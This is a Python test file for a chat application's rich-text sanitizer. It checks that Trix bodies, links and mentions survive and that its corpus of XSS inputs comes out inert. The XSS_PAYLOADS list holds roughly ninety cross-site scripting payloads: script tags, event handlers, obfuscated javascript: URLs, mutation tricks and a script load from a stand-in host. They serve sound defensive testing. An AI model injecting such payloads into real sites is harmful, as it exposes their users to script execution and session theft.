"""Rich text: the allow-list sanitizer against an XSS corpus (directly and
through the room page), and what it keeps of Trix bodies, links, plain text
and mentions."""

import html
import random
import re
import shutil
import tempfile
import time
import unittest
from html.parser import HTMLParser

from tests.helpers import Client, campfire, make_app
from tests.test_rooms import ChatTestCase, fragment_message_id

XSS_PAYLOADS = [
    # script
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/src="data:text/javascript,alert(1)"></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<<script>alert(1)//<</script>',
    '<div><script type="module">import("//evil.example")</script></div>',
    # event handlers, in any case and quoting
    '<img src=x onerror=alert(1)>',
    '<IMG SRC="x" ONERROR="alert(1)">',
    '<img src=x oNeRrOr=alert`1`>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)">hover</div>',
    '<b onclick=alert(1)>bold</b>',
    '<a href="https://example.com" onfocus=alert(1) autofocus>x</a>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<input autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<div/onclick=alert(1)>slash</div>',
    '<div\tonclick=alert(1)>tab</div>',
    '<div\nonclick\n=\nalert(1)>newline</div>',
    # javascript:, data:, vbscript: URLs with entity, whitespace and case tricks
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="jav\x00ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript&#58;msgbox(1)">x</a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<action-text-attachment url="javascript:alert(1)" href="javascript:alert(1)" '
    'content-type="text/html"></action-text-attachment>',
    '<a href=javascript:alert(1)>unquoted</a>',
    '<a href="javascript:alert(1)" href="https://example.com">double href</a>',
    # style
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p STYLE="x:expression(alert(1))">x</p>',
    '<span style="position:fixed;inset:0" class="x">overlay</span>',
    # embedding and document-changing tags
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<frameset onload=alert(1)>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    # breaking out of attributes and tags
    '<a title="x" onmouseover="alert(1)">q</a>',
    '<a title=\'"><script>alert(1)</script>\'>q</a>',
    '<a title="&quot; onmouseover=&quot;alert(1)">q</a>',
    '<div class="a" "onclick="alert(1)">q</div>',
    '<img """><script>alert(1)</script>">',
    '<a href="https://example.com/"onmouseover="alert(1)">q</a>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    # unclosed tags, comments, CDATA, processing instructions
    '<img src=x onerror=alert(1)',
    '<div onclick="alert(1)"',
    '<!--<img src=x onerror=alert(1)>-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<![foo[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<!DOCTYPE html><img src=x onerror=alert(1)>',
    # mutation tricks
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<select><style><img src=x onerror=alert(1)></style></select>',
    '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<a href="https://example.com"><a href="javascript:alert(1)">nested</a></a>',
    '<div>' * 200 + '<img src=x onerror=alert(1)>' + '</div>' * 200,
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing><img src=x onerror=alert(1)></listing>',
]

URL_ATTRIBUTE_NAMES = frozenset(("href", "src", "action", "formaction", "cite", "url", "data", "srcdoc", "background",
                                 "poster", "xlink:href", "content"))
BAD_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.I)


class _Inspector(HTMLParser):
    """Every start tag with its attributes, as a browser-like parser reads them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def parsed_tags(html):
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.tags


def url_is_dangerous(value):
    return bool(BAD_URL.match(re.sub(r"[\x00-\x20\x7f]", "", value or "")))


class SanitizerCorpusTests(unittest.TestCase):
    def test_corpus_is_big_enough(self):
        self.assertGreaterEqual(len(XSS_PAYLOADS), 50)

    def test_output_holds_only_allowed_tags_and_attributes(self):
        for payload in XSS_PAYLOADS:
            for link in (False, True):
                with self.subTest(payload=payload[:80], link=link):
                    output = campfire.sanitize_html(payload, link=link)
                    for tag, attrs in parsed_tags(output):
                        self.assertIn(tag, campfire.ALLOWED_TAGS)
                        allowed = set(campfire.ALLOWED_ATTRIBUTES)
                        if tag == campfire.ATTACHMENT_TAG:
                            allowed |= campfire.ATTACHMENT_ATTRIBUTES
                        if tag == "a":
                            allowed |= {"target", "rel"}
                        for name, value in attrs:
                            self.assertIn(name, allowed)
                            self.assertFalse(name.startswith("on"))
                            self.assertNotEqual(name, "style")
                            if name in URL_ATTRIBUTE_NAMES:
                                self.assertFalse(url_is_dangerous(value), value)
                    self.assertNotRegex(output, r"(?i)<\s*(script|style|iframe|svg|img|object|embed|form|base|meta|link)")

    def test_sanitizing_is_idempotent(self):
        for payload in XSS_PAYLOADS:
            with self.subTest(payload=payload[:80]):
                once = campfire.sanitize_html(payload, link=True)
                self.assertEqual(campfire.sanitize_html(once, link=True), once)

    def test_dropped_elements_lose_their_content(self):
        for payload in ('<script>alert(1)</script>', '<style>p{}</style>', '<template><b>x</b></template>',
                        '<iframe>frame text</iframe>', '<svg><text>svg text</text></svg>'):
            with self.subTest(payload=payload):
                self.assertEqual(campfire.sanitize_html(payload), "")

    def test_pathological_input_is_fast_and_bounded(self):
        # Each costs at most a few times what an ordinary message of the same
        # length costs (a rescan that turns quadratic costs hundreds of times
        # more): the best of a few runs of each, in this thread's CPU time, which a busy
        # machine doesn't inflate.
        import time

        def sanitize(payload):
            started = time.thread_time()
            output = campfire.sanitize_html(payload, link=True)
            return time.thread_time() - started, output
        ordinary = "<div>Hello <strong>there</strong>, see https://example.com/x and a few more words.</div>" * 1000
        for payload in ("<a " * 20_000, "<" * 50_000, "<div>" * 5_000, "&" * 50_000, "<!--" * 10_000,
                        "<![" * 10_000):
            with self.subTest(payload=payload[:8]):
                runs = [(sanitize(payload), sanitize(ordinary[:len(payload)])[0]) for _ in range(3)]
                ratio = min(elapsed for (elapsed, _), _ in runs) / min(baseline for _, baseline in runs)
                self.assertLess(ratio, 50, "%.0f times an ordinary message's time" % ratio)
                for tag, _ in parsed_tags(runs[0][0][1]):
                    self.assertIn(tag, campfire.ALLOWED_TAGS)

    def test_nesting_is_capped_but_text_is_kept(self):
        output = campfire.sanitize_html("<div>" * 500 + "deep" + "</div>" * 500)
        self.assertIn("deep", output)
        self.assertLessEqual(output.count("<div>"), campfire.MAX_NESTING_DEPTH)
        self.assertEqual(output.count("<div>"), output.count("</div>"))


class SanitizerBehaviourTests(unittest.TestCase):
    def test_trix_bodies_are_preserved(self):
        for body in ("<div>Hello <strong>there</strong></div>",
                     "<div><em>it</em> <del>struck</del> <a href=\"/rooms/1/@5\">link</a></div>",
                     "<h1>Title</h1><div>text<br>second line</div>",
                     "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>",
                     "<ol><li>first</li><li>second</li></ol>",
                     "<blockquote>quoted<cite>Ada <a href=\"/rooms/1/@9\">#</a></cite></blockquote>",
                     "<pre>code &lt;b&gt; &amp; https://example.com</pre>",
                     "<div>a&nbsp;b &amp; c &lt; d</div>"):
            with self.subTest(body=body):
                self.assertEqual(campfire.sanitize_html(body, link=True), body)

    def test_links_get_target_and_rel(self):
        output = campfire.sanitize_html('<a href="https://example.com/x">x</a>')
        self.assertEqual(output, '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">x</a>')
        mail = campfire.sanitize_html('<a href="mailto:a@example.com" target="_self" rel="opener">m</a>')
        self.assertEqual(mail, '<a href="mailto:a@example.com">m</a>')
        protocol_relative = campfire.sanitize_html('<a href="//example.com">p</a>')
        self.assertIn('target="_blank" rel="noopener noreferrer"', protocol_relative)

    def test_bare_urls_are_auto_linked_outside_code(self):
        output = campfire.sanitize_html("<div>see https://example.com/a. and www.example.org</div>", link=True)
        self.assertIn('<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">'
                      'https://example.com/a</a>.', output)
        self.assertIn('<a href="http://www.example.org" target="_blank" rel="noopener noreferrer">www.example.org</a>',
                      output)
        self.assertEqual(campfire.sanitize_html("<pre>https://example.com</pre>", link=True),
                         "<pre>https://example.com</pre>")
        self.assertEqual(campfire.sanitize_html("<code>https://example.com</code>", link=True),
                         "<code>https://example.com</code>")
        self.assertEqual(campfire.sanitize_html("plain https://example.com", link=False), "plain https://example.com")

    def test_plain_text_is_escaped(self):
        self.assertEqual(campfire.sanitize_html("1 < 2 & 3 > 2"), "1 &lt; 2 &amp; 3 &gt; 2")
        self.assertEqual(campfire.sanitize_html('say "hi"'), "say &quot;hi&quot;")

    def test_unclosed_tags_are_closed(self):
        self.assertEqual(campfire.sanitize_html("<div><strong>bold"), "<div><strong>bold</strong></div>")
        self.assertEqual(campfire.sanitize_html("</div>stray</strong>"), "stray")

    def test_attachments_are_kept_only_when_allowed(self):
        attachment = ('<action-text-attachment sgid="abc" content-type="application/vnd.campfire.mention">'
                      '</action-text-attachment>')
        self.assertEqual(campfire.sanitize_html(attachment), attachment)
        self.assertEqual(campfire.sanitize_html(attachment, keep_attachment=lambda sgid, kind: False), "")

    def test_plain_text_of_lists_breaks_and_blocks(self):
        plain = campfire.html_to_plain_text
        self.assertEqual(plain("<ul><li>one</li><li>two</li></ul>"), "• one\n• two")
        self.assertEqual(plain("<ol><li>one</li><li>two<ul><li>x</li></ul></li></ol>"), "1. one\n2. two\n  • x")
        self.assertEqual(plain("<div>a<br>b</div><div>c</div>"), "a\nb\nc")
        self.assertEqual(plain("<p>para</p><p>two</p>"), "para\n\ntwo")
        self.assertEqual(plain("<div>/play tada</div>"), "/play tada")
        self.assertEqual(plain("<div>&lt;b&gt; &amp;&nbsp;x</div>"), "<b> &\xa0x")
        self.assertEqual(plain("<div>hi<script>alert(1)</script></div>"), "hi")

    def test_plain_text_of_mentions(self):
        body = ('<div>Hi <action-text-attachment sgid="S" content-type="application/vnd.campfire.mention">'
                '</action-text-attachment>!</div>')
        self.assertEqual(campfire.html_to_plain_text(body, mention_name=lambda sgid: "Bob" if sgid == "S" else None),
                         "Hi @Bob!")
        self.assertEqual(campfire.html_to_plain_text(body), "Hi !")
        with_content = ('<action-text-attachment sgid="?" content-type="application/vnd.campfire.mention" '
                        'content="&lt;span&gt;Rita&lt;/span&gt;"></action-text-attachment>')
        self.assertEqual(campfire.html_to_plain_text(with_content), "@Rita")

    def test_render_rich_text_swaps_mentions_for_chips_and_drops_other_attachments(self):
        stored = ('<div>a <action-text-attachment sgid="S" content-type="application/vnd.campfire.mention">'
                  '</action-text-attachment> b <action-text-attachment content-type="image/png" url="/x.png">'
                  '</action-text-attachment></div>')
        rendered = campfire.render_rich_text(stored, mention=lambda sgid: '<span class="mention">Bob</span>')
        self.assertEqual(rendered, '<div>a <span class="mention">Bob</span> b </div>')
        unknown = campfire.render_rich_text(stored.replace('sgid="S" ', 'sgid="S" content="&lt;b&gt;Ann" '))
        self.assertNotIn("<b>", unknown)
        self.assertIn("Ann", unknown)

    def test_sgids_round_trip_and_forgeries_fail(self):
        secret = "k" * 128
        sgid = campfire.make_sgid(42, secret)
        self.assertEqual(campfire.sgid_user_id(sgid), 42)
        self.assertEqual(campfire.verify_sgid(sgid, secret), 42)
        self.assertIsNone(campfire.verify_sgid(sgid, "x" * 128))
        self.assertIsNone(campfire.verify_sgid(sgid[:-1] + ("0" if sgid[-1] != "0" else "1"), secret))
        self.assertIsNone(campfire.sgid_user_id("not base64 at all"))

    def test_link_mentions_turns_member_names_into_attachments(self):
        people = [("Bob", "SG-BOB"), ("Bob Builder", "SG-BB")]
        output = campfire.link_mentions("<div>hi @Bob Builder and @bob, not bob@example.com</div>", people)
        self.assertEqual(output.count("<action-text-attachment"), 2)
        self.assertIn('sgid="SG-BB"', output)
        self.assertIn('sgid="SG-BOB"', output)
        self.assertIn("bob@example.com", output)
        self.assertEqual(campfire.link_mentions('<a href="/x">@Bob</a><code>@Bob</code>', people),
                         '<a href="/x">@Bob</a><code>@Bob</code>')

    def test_link_mentions_matches_names_as_the_sanitizer_escapes_them(self):
        for name in ("Dan O'Brien", "Tom & Jerry", 'Al "Bird" Parker', "Zoë <3"):
            with self.subTest(name=name):
                output = campfire.link_mentions(campfire.sanitize_html("hi @%s." % name), [(name, "SG")])
                self.assertEqual(output, 'hi <action-text-attachment sgid="SG" '
                                         'content-type="application/vnd.campfire.mention"></action-text-attachment>.')

    def test_link_mentions_prefers_the_longest_name_then_the_first_person_of_a_name(self):
        people = [("Ann", "SG-A1"), ("Ann Lee", "SG-AL"), ("ann", "SG-A2"), ("Annabel", "SG-AB")]
        output = campfire.link_mentions("<div>@Ann Lee, @ann, @Annabel! @Anne @ Ann</div>", people)
        self.assertEqual(re.findall(r'sgid="([^"]+)"', output), ["SG-AL", "SG-A1", "SG-AB"])
        self.assertIn("@Anne @ Ann", output)  # not a name, not glued to the "@"
        self.assertIn("<div>", output)

    def test_link_mentions_agrees_with_trying_every_name_at_every_at_sign(self):
        def every_name(text, people):  # the plain way: quadratic, but obviously right
            names = sorted(((html.escape(name, quote=True).replace("&#x27;", "'").lower(), sgid)
                            for name, sgid in people), key=lambda pair: -len(pair[0]))
            out, position = [], 0
            for at in re.finditer(r"(?<![\w@])@", text):
                if at.start() < position:
                    continue
                following = text[at.end():at.end() + campfire.MENTION_LOOKAHEAD_CHARS].lower()
                for name, sgid in names:
                    end = at.end() + len(name)
                    if following.startswith(name) and not (end < len(text) and (text[end].isalnum() or text[end] == "_")):
                        out += (text[position:at.start()], '<action-text-attachment sgid="%s" content-type="%s">'
                                '</action-text-attachment>' % (sgid, campfire.MENTION_CONTENT_TYPE))
                        position = end
                        break
            return "".join(out) + text[position:]
        rng = random.Random(11)
        letters = ["a", "b", "A", "B", "é", "İ", "ß", " ", "@", "_", "1", "&", ".", "-", "'"]
        linked = 0
        for _ in range(3000):
            people = [("".join(rng.choice(letters) for _ in range(rng.randint(0, 6))), "SG%d" % index)
                      for index in range(rng.randint(1, 8))]
            text = "".join(rng.choice(["@" + rng.choice(people)[0], "@", " ", rng.choice(letters) * rng.randint(1, 3)])
                           for _ in range(rng.randint(1, 12)))
            escaped = campfire.sanitize_html(text)
            self.assertNotIn("<", escaped.replace("&lt;", ""))
            expected = every_name(escaped, people)
            self.assertEqual(campfire.link_mentions(escaped, people), expected, (text, people))
            linked += expected.count("<action-text-attachment")
        self.assertGreater(linked, 1000)  # the corpus does link names


class PathologicalBodyTests(unittest.TestCase):
    """Every rich-text step a posted body goes through, in a room of 1,000 people, with
    64 KiB bodies made to be slow: each step stays within a few times what an ordinary
    64 KiB body costs in all (measured here, on this machine, now)."""

    BODY_CHARS = 64 * 1024
    MEMBERS = 1000
    BOUND = 10  # times the baseline: generous for a shared machine, far below a quadratic step
    RETRIES = 2  # more measurements of a body that looked slow, the fastest counting

    @classmethod
    def setUpClass(cls):
        cls.storage = tempfile.mkdtemp(prefix="campfire-test-")
        cls.app = make_app(cls.storage)
        email, password = campfire.seed_database(cls.app, users=cls.MEMBERS, rooms=1, messages=0)
        cls.room_id = cls.app.db.value("SELECT id FROM rooms")
        cls.client = Client(cls.app)
        response = cls.client.post("/session", {"email_address": email, "password": password})
        assert response.status == 303, response.status

    @classmethod
    def tearDownClass(cls):
        cls.app.close()
        shutil.rmtree(cls.storage, ignore_errors=True)

    def fill(self, pattern):
        return (pattern * (self.BODY_CHARS // len(pattern) + 1))[:self.BODY_CHARS]

    def step_times(self, body):
        """Seconds each step takes, as Store.clean_body, plain_text and App.render_body run them."""
        app, times = self.app, {}
        started = time.thread_time()
        clean = campfire.sanitize_html(body, keep_attachment=app.store._keep_attachment, link=True)
        times["sanitize_html"] = time.thread_time() - started
        started = time.thread_time()
        members = [app.store.user(user_id) for user_id in app.store.room_member_ids(self.room_id)]
        stored = campfire.link_mentions(clean, [(user.name, app.store.mention_sgid(user.id)) for user in members])
        times["link_mentions"] = time.thread_time() - started
        self.assertEqual(stored, app.store.clean_body(body, self.room_id))  # the same steps the app runs
        for name, step in (("html_to_plain_text", app.store.plain_text), ("render_rich_text", app.render_body),
                           ("find_mentions", campfire.find_mentions)):
            started = time.thread_time()
            step(stored)
            times[name] = time.thread_time() - started
        return times

    def post_time(self, body):
        started = time.thread_time()
        response = self.client.post("/rooms/%d/messages" % self.room_id, {"message[body]": body})
        elapsed = time.thread_time() - started
        self.assertEqual(response.status, 201, response.text[:200])
        return elapsed

    def test_pathological_bodies_cost_no_more_than_a_few_ordinary_ones(self):
        self.assertEqual(len(self.app.store.room_member_ids(self.room_id)), self.MEMBERS)
        ordinary = self.fill("<div>Lorem ipsum <strong>dolor</strong> sit amet, <em>consectetur</em> adipiscing "
                             "elit, see https://example.com/page.<br></div>")
        baseline = min(sum(self.step_times(ordinary).values()) for _ in range(3))
        baseline_post = min(self.post_time(ordinary) for _ in range(3))
        sgid = self.app.store.mention_sgid(7)
        bodies = {
            "spaced @": "@ ", "only @": "@", "@ and a name's start": "@Person ", "@ and a short start": "@P ",
            "real mentions": "@Person 12 ", "mention attachments":
                '<action-text-attachment sgid="%s" content-type="%s"></action-text-attachment>'
                % (sgid, campfire.MENTION_CONTENT_TYPE),
            "<": "<", "unclosed tags": "<a ", "unclosed attributes": '<a href="', "closing tags": "</div>",
            "deep nesting": "<div>", "mixed nesting": "<b><i><ul><li>", "comments": "<!--", "CDATA": "<![CDATA[",
            "bare URLs": "http://a.b/c ", "www links": "www.x ", "parentheses": "http://a/(", "entities":
                "&amp;&lt;&#x41;&nbsp;", "broken entities": "&#", "ampersands": "&",
        }
        for label, pattern in bodies.items():
            body = self.fill(pattern)
            with self.subTest(body=label):
                times = self.step_times(body)
                for _ in range(self.RETRIES):  # the machine is shared: a slow step is measured again
                    if max(times.values()) <= self.BOUND * baseline:
                        break
                    times = {step: min(seconds, again) for (step, seconds), again
                             in zip(times.items(), self.step_times(body).values())}
                for step, seconds in times.items():
                    self.assertLessEqual(seconds, self.BOUND * baseline,
                                         "%s took %.0f ms; an ordinary body's steps %.0f ms in all"
                                         % (step, seconds * 1000, baseline * 1000))
                seconds = self.post_time(body)
                for _ in range(self.RETRIES):
                    if seconds <= self.BOUND * baseline_post:
                        break
                    seconds = min(seconds, self.post_time(body))
                self.assertLessEqual(seconds, self.BOUND * baseline_post,
                                     "posting took %.0f ms; an ordinary body %.0f ms"
                                     % (seconds * 1000, baseline_post * 1000))


class _PageInspector(HTMLParser):
    """Tags inside #messages, and every <script> in the document."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.messages_at = None
        self.inside = []
        self.scripts = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            self.scripts.append(attributes)
        if self.messages_at is not None:
            self.inside.append((tag, attrs))
        elif attributes.get("id") == "messages":
            self.messages_at = self.depth
        if tag not in ("area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
                       "track", "wbr"):
            self.depth += 1

    def handle_endtag(self, tag):
        self.depth -= 1
        if self.messages_at is not None and self.depth == self.messages_at:
            self.messages_at = None


class PostedPayloadTests(ChatTestCase):
    def assertScriptsAreOurs(self, html):
        """Two scripts, both in the head: the import map (JSON naming our own modules,
        the one inline script the CSP allows by its hash) and app.js."""
        self.assertEqual(len(re.findall(r"(?i)<script", html)), 2)
        self.assertRegex(html, r'<head>.*<script type="importmap">\{"imports":\{("/static/[\w-]+\.js":'
                               r'"/static/[\w-]+\.js\?v=[0-9a-f]{16}",?)+\}\}</script>.*</head>')
        self.assertRegex(html, r'<head>.*<script type="module" src="/static/app\.js[^"]*"></script>.*</head>')

    def drawn_avatars(self):
        """The srcs of the avatars a page draws itself (people without a picture): data:
        URLs of the server's own SVG of each person's initials, which no message makes."""
        sources = self.app.store.avatar_sources()
        return {source for source in (sources[row["id"]] for row in self.app.db.all("SELECT id FROM users"))
                if source.startswith("data:image/svg+xml,")}

    def assertPageIsClean(self, html):
        self.assertScriptsAreOurs(html)
        avatars = self.drawn_avatars()
        inspector = _PageInspector()
        inspector.feed(html)
        inspector.close()
        self.assertEqual([script.get("type") for script in inspector.scripts], ["importmap", "module"])
        for tag, attrs in inspector.inside:
            self.assertNotIn(tag, ("script", "style", "iframe", "object", "embed", "svg", "math", "base", "meta",
                                   "link", "template", "noscript", "textarea", "frameset", "applet", "video"))
            if tag == "form":  # only the page's own per-message forms
                self.assertRegex(dict(attrs).get("action", ""), r"^/(rooms|messages)/\d+/")
            for name, value in attrs:
                self.assertFalse(name.startswith("on"), (tag, name, value))
                self.assertNotEqual(name, "style", (tag, value))
                drawn = (tag, name, dict(attrs).get("class")) == ("img", "src", "avatar") and value in avatars
                if name in URL_ATTRIBUTE_NAMES and not drawn:
                    self.assertFalse(url_is_dangerous(value), (tag, name, value))
        messages = html[html.index('id="messages"'):html.index('id="composer"')]
        for avatar in avatars:
            messages = messages.replace('<img class="avatar" src="%s"' % avatar, '<img class="avatar"')
        self.assertIsNone(re.search(r'(?i)(href|src|action|cite|url)\s*=\s*"?\s*(javascript|data|vbscript):', messages))

    def test_every_payload_posted_and_rendered_in_the_room_page_is_inert(self):
        for index, payload in enumerate(XSS_PAYLOADS):
            with self.subTest(payload=payload[:80]):
                response = self.post(self.bob, 1, payload, client_message_id="xss-%d" % index)
                self.assertIn(response.status, (201, 422))
                page = self.ada.get("/rooms/1")
                self.assertEqual(page.status, 200)
                if response.status == 201:
                    self.assertIn('id="message_%d"' % fragment_message_id(response), page.text)
                self.assertPageIsClean(page.text)

    def test_payloads_are_inert_in_fragments_search_and_permalinks(self):
        ids = []
        for index, payload in enumerate(XSS_PAYLOADS):
            response = self.post(self.bob, 1, "needle%d " % index + payload)
            self.assertEqual(response.status, 201, payload)
            ids.append(fragment_message_id(response))
            for tag, attrs in parsed_tags(response.text):
                for name, value in attrs:
                    self.assertFalse(name.startswith("on"), (payload, name))
                    self.assertNotEqual(name, "style", payload)
        for page in (self.ada.get("/rooms/1/@%d" % ids[10]).text, self.ada.get("/rooms/1/@%d" % ids[-10]).text):
            self.assertPageIsClean(page)
        fragment = self.ada.get("/rooms/1/messages?before=%d" % ids[-1]).text
        self.assertNotRegex(fragment, r"(?i)<script|<img[^>]*onerror|<svg")
        search = self.ada.get("/searches?q=alert").text
        self.assertScriptsAreOurs(search)
        self.assertNotRegex(search, r"(?i)<img[^>]*onerror|<svg|javascript:alert\(1\)\"")

    def test_other_user_supplied_values_are_escaped_too(self):
        payload = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
        response = self.post(self.bob, 1, "fine", client_message_id=payload)
        self.assertEqual(response.status, 201)
        message = fragment_message_id(response)
        self.assertEqual(self.bob.post("/messages/%d/boosts" % message, {"boost[content]": "<svg onload=x>"}).status,
                         201)
        self.ada.post("/rooms/opens/1", {"_method": "patch", "room[name]": payload})
        self.assertPageIsClean(self.ada.get("/rooms/1").text)
        self.assertPageIsClean(self.bob.get("/rooms/1").text)
        search = self.ada.get("/searches?q=" + "%22%3E%3Cscript%3Ealert(1)%3C/script%3E").text
        self.assertScriptsAreOurs(search)


if __name__ == "__main__":
    unittest.main()
